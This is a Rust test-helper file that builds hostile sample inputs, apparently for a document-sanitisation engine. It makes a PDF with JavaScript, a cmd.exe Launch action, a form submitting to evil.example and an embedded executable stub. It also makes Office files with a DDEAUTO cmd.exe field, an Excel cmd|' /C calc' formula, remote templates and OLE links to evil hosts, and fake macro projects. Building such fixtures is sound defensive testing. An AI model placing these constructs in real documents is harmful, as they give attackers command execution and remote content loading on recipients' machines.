//! Builders for test inputs: mails in each Japanese charset, PDFs with dangerous keys, OOXML
//! packages, zips (bombs, encrypted), images with trailing data.

use std::io::{Cursor, Write};

use base64::Engine as _;
use zip::write::SimpleFileOptions;

pub fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// RFC 2047 B-encoded word in `charset` for `text`.
pub fn encoded_word(label: &str, enc: &'static encoding_rs::Encoding, text: &str) -> String {
    format!("=?{label}?B?{}?=", b64(&enc.encode(text).0))
}

/// A single-part text mail with the body encoded in `enc` and labelled `label`.
pub fn text_mail(
    label: &str,
    enc: &'static encoding_rs::Encoding,
    subject: &str,
    body: &str,
) -> Vec<u8> {
    let mut m = format!(
        "From: =?UTF-8?B?{}?= <sender@example.com>\r\nTo: staff@city.example.lg.jp\r\nSubject: {}\r\nDate: Wed, 25 Nov 2026 10:00:00 +0900\r\nMessage-ID: <abc@example.com>\r\nX-Spam: yes\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset={label}\r\nContent-Transfer-Encoding: base64\r\n\r\n",
        b64("山田 太郎".as_bytes()),
        encoded_word(label, enc, subject),
    )
    .into_bytes();
    m.extend_from_slice(b64(&enc.encode(body).0).as_bytes());
    m.extend_from_slice(b"\r\n");
    m
}

/// A multipart/mixed mail with a text body and one attachment.
pub fn mail_with_attachment(filename_param: &str, ctype: &str, data: &[u8]) -> Vec<u8> {
    format!(
        "From: sender@example.com\r\nTo: staff@example.lg.jp\r\nSubject: files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BOUND\"\r\n\r\n--BOUND\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n資料を送ります。\r\n--BOUND\r\nContent-Type: {ctype}\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; {filename_param}\r\n\r\n{}\r\n--BOUND--\r\n",
        b64(data)
    )
    .into_bytes()
}

/// A PDF written by hand from object bodies (numbered from 1, object 1 is the catalog).
pub fn raw_pdf(objects: &[&str], trailer_extra: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R {trailer_extra}>>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// A one-page PDF carrying every dangerous construct the engine removes.
pub fn dangerous_pdf(obfuscate: bool) -> Vec<u8> {
    let js = if obfuscate {
        "/J#61vaScript"
    } else {
        "/JavaScript"
    };
    let objs = [
        format!("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >> /Names << {js} 5 0 R /EmbeddedFiles 6 0 R >> /AcroForm << /XFA 9 0 R /Fields [] >> >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 10 0 R /Annots [7 0 R 8 0 R 11 0 R] >>".to_owned(),
        format!("<< /Type /Action /S {js} /JS (app.alert\\(1\\)) >>"),
        format!("<< /Names [(x) << /S {js} /JS (app.alert\\(2\\)) >>] >>"),
        "<< /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 12 0 R >> >>] >>".to_owned(),
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>".to_owned(),
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.jp/) >> >>".to_owned(),
        "<< /Length 5 >>\nstream\n<xdp>\nendstream".to_owned(),
        "<< /Length 35 >>\nstream\nBT /F1 12 Tf 10 10 Td (Hello) Tj ET\nendstream".to_owned(),
        "<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://evil.example/) >> /AA << /K 4 0 R >> >>".to_owned(),
        "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream".to_owned(),
    ];
    let refs: Vec<&str> = objs.iter().map(String::as_str).collect();
    raw_pdf(&refs, "")
}

pub fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    zip_with(zip::CompressionMethod::Deflated, entries)
}

/// A zip whose entries are stored uncompressed (their bytes readable in the archive as they are).
pub fn zip_stored_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    zip_with(zip::CompressionMethod::Stored, entries)
}

fn zip_with(method: zip::CompressionMethod, entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default().compression_method(method);
    for (name, data) in entries {
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// Sets the "encrypted" flag on every entry, as a password-protected (PPAP) zip has it.
pub fn mark_encrypted(mut z: Vec<u8>) -> Vec<u8> {
    let mut i = 0;
    while i + 10 < z.len() {
        if z[i..].starts_with(b"PK\x03\x04") {
            z[i + 6] |= 1;
        } else if z[i..].starts_with(b"PK\x01\x02") {
            z[i + 8] |= 1;
        }
        i += 1;
    }
    z
}

const CT_DOCM: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/></Types>"#;

const ROOT_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;

const DOC_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.lg.jp/" TargetMode="External"/><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="file:///\\evil\share\x.xlsx" TargetMode="External"/></Relationships>"#;

const SETTINGS_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example.com/t.dotm" TargetMode="External"/></Relationships>"#;

const DOCUMENT: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>お知らせ</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#;

const SETTINGS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>"#;

/// A .docm with a VBA project, a remote template, a linked OLE object, a hyperlink and a DDE field.
pub fn docm() -> Vec<u8> {
    zip_of(&[
        ("[Content_Types].xml", CT_DOCM.as_bytes()),
        ("_rels/.rels", ROOT_RELS.as_bytes()),
        ("word/document.xml", DOCUMENT.as_bytes()),
        ("word/_rels/document.xml.rels", DOC_RELS.as_bytes()),
        ("word/settings.xml", SETTINGS.as_bytes()),
        ("word/_rels/settings.xml.rels", SETTINGS_RELS.as_bytes()),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0fake vba"),
        ("word/vbaData.xml", b"<wne:vbaSuppData xmlns:wne=\"x\"/>"),
        ("word/_rels/vbaProject.bin.rels", ROOT_RELS.as_bytes()),
    ])
}

/// A .docm whose VBA project is stored under a neutral name (found by Office through its
/// relationship type and content type) and an ActiveX control known only by its relationship.
pub fn docm_renamed_parts() -> Vec<u8> {
    let ct = CT_DOCM.replace(
        "<Override PartName=\"/word/vbaData.xml\"",
        "<Override PartName=\"/word/data.dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Override PartName=\"/word/vbaData.xml\"",
    );
    let rels = DOC_RELS
        .replace("Target=\"vbaProject.bin\"", "Target=\"data.dat\"")
        .replace(
            "</Relationships>",
            "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/control\" Target=\"parts/ctl.xml\"/></Relationships>",
        );
    zip_of(&[
        ("[Content_Types].xml", ct.as_bytes()),
        ("_rels/.rels", ROOT_RELS.as_bytes()),
        ("word/document.xml", DOCUMENT.as_bytes()),
        ("word/_rels/document.xml.rels", rels.as_bytes()),
        ("word/data.dat", b"\xd0\xcf\x11\xe0fake vba"),
        ("word/parts/ctl.xml", b"<ax:ocx xmlns:ax=\"x\"/>"),
    ])
}

/// A .xlsm with a VBA project, an XLM macro sheet and an external connection.
pub fn xlsm() -> Vec<u8> {
    let ct = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/macrosheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/><Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>"#;
    let root = ROOT_RELS.replace("word/document.xml", "xl/workbook.xml");
    let wb_rels = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet2.xml"/><Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/connections" Target="connections.xml"/></Relationships>"#;
    let wb = r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/><sheet name="M" sheetId="2" r:id="rId2"/></sheets></workbook>"#;
    let sheet = r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>cmd|' /C calc'!A0</f><v>0</v></c></row></sheetData></worksheet>"#;
    zip_of(&[
        ("[Content_Types].xml", ct.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        ("xl/workbook.xml", wb.as_bytes()),
        ("xl/_rels/workbook.xml.rels", wb_rels.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
        (
            "xl/macrosheets/sheet2.xml",
            b"<xm:macrosheet xmlns:xm=\"x\"/>",
        ),
        ("xl/vbaProject.bin", b"fake"),
        ("xl/connections.xml", b"<connections/>"),
    ])
}

/// A small PNG.
pub fn png() -> Vec<u8> {
    let img = image::RgbImage::from_fn(8, 8, |x, y| image::Rgb([x as u8 * 30, y as u8 * 30, 100]));
    let mut out = Cursor::new(Vec::new());
    img.write_to(&mut out, image::ImageFormat::Png).unwrap();
    out.into_inner()
}

/// A small JPEG.
pub fn jpeg() -> Vec<u8> {
    let img = image::RgbImage::from_fn(16, 16, |x, y| image::Rgb([x as u8 * 10, y as u8 * 10, 50]));
    let mut out = Cursor::new(Vec::new());
    img.write_to(&mut out, image::ImageFormat::Jpeg).unwrap();
    out.into_inner()
}

/// A one-slide .pptm with a VBA project, a linked OLE object on the slide and a sound played
/// from a remote address.
pub fn pptm() -> Vec<u8> {
    const P: &str = "http://schemas.openxmlformats.org/presentationml/2006/main";
    const A: &str = "http://schemas.openxmlformats.org/drawingml/2006/main";
    const R: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    const REL: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
    let ct = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"/><Override PartName="/ppt/slideMasters/slideMaster1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml"/><Override PartName="/ppt/slideLayouts/slideLayout1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml"/><Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/><Override PartName="/ppt/theme/theme1.xml" ContentType="application/vnd.openxmlformats-officedocument.theme+xml"/></Types>"#;
    let root = ROOT_RELS.replace("word/document.xml", "ppt/presentation.xml");
    let pres = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:presentation xmlns:a="{A}" xmlns:r="{R}" xmlns:p="{P}"><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>"#
    );
    let pres_rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{REL}"><Relationship Id="rId1" Type="{R}/slideMaster" Target="slideMasters/slideMaster1.xml"/><Relationship Id="rId2" Type="{R}/slide" Target="slides/slide1.xml"/><Relationship Id="rId3" Type="{R}/theme" Target="theme/theme1.xml"/><Relationship Id="rId4" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>"#
    );
    let tree = r#"<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/><a:chOff x="0" y="0"/><a:chExt cx="0" cy="0"/></a:xfrm></p:grpSpPr>"#;
    let master = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:sldMaster xmlns:a="{A}" xmlns:r="{R}" xmlns:p="{P}"><p:cSld><p:spTree>{tree}</p:spTree></p:cSld><p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>"#
    );
    let master_rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{REL}"><Relationship Id="rId1" Type="{R}/slideLayout" Target="../slideLayouts/slideLayout1.xml"/><Relationship Id="rId2" Type="{R}/theme" Target="../theme/theme1.xml"/></Relationships>"#
    );
    let layout = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:sldLayout xmlns:a="{A}" xmlns:r="{R}" xmlns:p="{P}"><p:cSld><p:spTree>{tree}</p:spTree></p:cSld></p:sldLayout>"#
    );
    let layout_rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{REL}"><Relationship Id="rId1" Type="{R}/slideMaster" Target="../slideMasters/slideMaster1.xml"/></Relationships>"#
    );
    let clr = |name: &str, rgb: &str| format!("<a:{name}><a:srgbClr val=\"{rgb}\"/></a:{name}>");
    let colours: String = [
        ("dk1", "000000"),
        ("lt1", "FFFFFF"),
        ("dk2", "1F497D"),
        ("lt2", "EEECE1"),
        ("accent1", "4F81BD"),
        ("accent2", "C0504D"),
        ("accent3", "9BBB59"),
        ("accent4", "8064A2"),
        ("accent5", "4BACC6"),
        ("accent6", "F79646"),
        ("hlink", "0000FF"),
        ("folHlink", "800080"),
    ]
    .iter()
    .map(|(n, v)| clr(n, v))
    .collect();
    let fill = r#"<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>"#;
    let line = r#"<a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln>"#;
    let theme = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><a:theme xmlns:a="{A}" name="t"><a:themeElements><a:clrScheme name="c">{colours}</a:clrScheme><a:fontScheme name="f"><a:majorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme><a:fmtScheme name="s"><a:fillStyleLst>{fill}{fill}{fill}</a:fillStyleLst><a:lnStyleLst>{line}{line}{line}</a:lnStyleLst><a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst><a:bgFillStyleLst>{fill}{fill}{fill}</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>"#
    );
    let slide = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:sld xmlns:a="{A}" xmlns:r="{R}" xmlns:p="{P}"><p:cSld><p:spTree>{tree}<p:sp><p:nvSpPr><p:cNvPr id="2" name="本文"><a:hlinkClick r:id="rId3"/></p:cNvPr><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="457200" y="457200"/><a:ext cx="8229600" cy="1143000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP"/><a:t>防災訓練のお知らせ</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>"#
    );
    let slide_rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{REL}"><Relationship Id="rId1" Type="{R}/slideLayout" Target="../slideLayouts/slideLayout1.xml"/><Relationship Id="rId2" Type="{R}/oleObject" Target="file:///\\evil\share\payload.xlsx" TargetMode="External"/><Relationship Id="rId3" Type="{R}/audio" Target="https://evil.example.com/a.wav" TargetMode="External"/></Relationships>"#
    );
    zip_of(&[
        ("[Content_Types].xml", ct.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        ("ppt/presentation.xml", pres.as_bytes()),
        ("ppt/_rels/presentation.xml.rels", pres_rels.as_bytes()),
        ("ppt/slideMasters/slideMaster1.xml", master.as_bytes()),
        (
            "ppt/slideMasters/_rels/slideMaster1.xml.rels",
            master_rels.as_bytes(),
        ),
        ("ppt/slideLayouts/slideLayout1.xml", layout.as_bytes()),
        (
            "ppt/slideLayouts/_rels/slideLayout1.xml.rels",
            layout_rels.as_bytes(),
        ),
        ("ppt/theme/theme1.xml", theme.as_bytes()),
        ("ppt/slides/slide1.xml", slide.as_bytes()),
        ("ppt/slides/_rels/slide1.xml.rels", slide_rels.as_bytes()),
        ("ppt/vbaProject.bin", b"\xd0\xcf\x11\xe0fake vba"),
    ])
}

/// An OLE compound file holding `streams` (path, bytes) and, with 64 zero bytes each, the
/// streams named in `extra` (e.g. `/Macros/VBA/dir`).
pub fn compound_file(streams: &[(&str, &[u8])], extra: &[&str]) -> Vec<u8> {
    let zeros = [0u8; 64];
    let all = streams
        .iter()
        .copied()
        .chain(extra.iter().map(|name| (*name, &zeros[..])));
    let mut c = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (name, data) in all {
        if let Some((dir, _)) = name.rsplit_once('/')
            && !dir.is_empty()
        {
            c.create_storage_all(dir).unwrap();
        }
        c.create_stream(name).unwrap().write_all(data).unwrap();
    }
    c.flush().unwrap();
    c.into_inner().into_inner()
}

/// A Word 97-2003 document (one UTF-16 piece of `text`) with the extra streams in `extra`.
pub fn word_doc(text: &str, extra: &[&str]) -> Vec<u8> {
    let units: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let chars = (units.len() / 2) as u32;
    let mut wd = vec![0u8; 0x400];
    let mut put = |at: usize, v: &[u8]| wd[at..at + v.len()].copy_from_slice(v);
    put(0, &0xA5ECu16.to_le_bytes());
    put(0x20, &0x000Eu16.to_le_bytes()); // csw
    put(0x3E, &0x0016u16.to_le_bytes()); // cslw
    put(0x98, &0x00B7u16.to_le_bytes()); // cbRgFcLcb
    put(0x4C, &chars.to_le_bytes()); // ccpText
    // Table stream "0Table": a CLX holding only the piece table, at offset 0.
    let mut clx = vec![0x02];
    clx.extend_from_slice(&16u32.to_le_bytes()); // two CPs and one PCD
    clx.extend_from_slice(&0u32.to_le_bytes());
    clx.extend_from_slice(&chars.to_le_bytes());
    clx.extend_from_slice(&[0, 0]);
    clx.extend_from_slice(&0x400u32.to_le_bytes()); // fc of the UTF-16 text
    clx.extend_from_slice(&[0, 0]);
    put(0x1A2, &0u32.to_le_bytes());
    put(0x1A6, &(clx.len() as u32).to_le_bytes());
    wd.extend_from_slice(&units);
    compound_file(&[("/WordDocument", &wd), ("/0Table", &clx)], extra)
}

/// A PowerPoint 97-2003 document: one slide whose text is `text`, and the extra streams.
pub fn powerpoint_doc(text: &str, extra: &[&str]) -> Vec<u8> {
    let record = |ver_inst: u16, kind: u16, body: &[u8]| {
        let mut r = ver_inst.to_le_bytes().to_vec();
        r.extend_from_slice(&kind.to_le_bytes());
        r.extend_from_slice(&(body.len() as u32).to_le_bytes());
        r.extend_from_slice(body);
        r
    };
    let units: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let slide = record(0x000F, 0x03EE, &record(0, 0x0FA0, &units));
    let document = record(0x000F, 0x03E8, &slide);
    compound_file(&[("/PowerPoint Document", &document)], extra)
}

/// An Excel 97-2003 (BIFF8) workbook: one worksheet named `sheet` whose A1 is `text` (from the
/// shared strings) and B1 the number 42, and the extra streams.
pub fn excel_doc(sheet: &str, text: &str, extra: &[&str]) -> Vec<u8> {
    let record = |kind: u16, body: &[u8]| {
        let mut r = kind.to_le_bytes().to_vec();
        r.extend_from_slice(&(body.len() as u16).to_le_bytes());
        r.extend_from_slice(body);
        r
    };
    let utf16 = |s: &str| {
        s.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let bof = |dt: u16| {
        record(
            0x0809,
            &[&0x0600u16.to_le_bytes()[..], &dt.to_le_bytes(), &[0; 12]].concat(),
        )
    };
    let eof = record(0x000A, &[]);
    let mut sst = 1u32.to_le_bytes().to_vec();
    sst.extend_from_slice(&1u32.to_le_bytes());
    sst.extend_from_slice(&(text.encode_utf16().count() as u16).to_le_bytes());
    sst.push(0x01);
    sst.extend_from_slice(&utf16(text));
    let boundsheet = |pos: u32| {
        let mut b = pos.to_le_bytes().to_vec();
        b.extend_from_slice(&[0, 0]);
        b.push(sheet.encode_utf16().count() as u8);
        b.push(0x01);
        b.extend_from_slice(&utf16(sheet));
        record(0x0085, &b)
    };
    let globals_len =
        bof(0x0005).len() + boundsheet(0).len() + record(0x00FC, &sst).len() + eof.len();
    let mut label = [0u16, 0, 0]
        .iter()
        .flat_map(|v| v.to_le_bytes())
        .collect::<Vec<u8>>();
    label.extend_from_slice(&0u32.to_le_bytes());
    let mut number = [0u16, 1, 0]
        .iter()
        .flat_map(|v| v.to_le_bytes())
        .collect::<Vec<u8>>();
    number.extend_from_slice(&42f64.to_le_bytes());
    let wb = [
        bof(0x0005),
        boundsheet(globals_len as u32),
        record(0x00FC, &sst),
        eof.clone(),
        bof(0x0010),
        record(0x00FD, &label),
        record(0x0203, &number),
        eof,
    ]
    .concat();
    compound_file(&[("/Workbook", &wb)], extra)
}
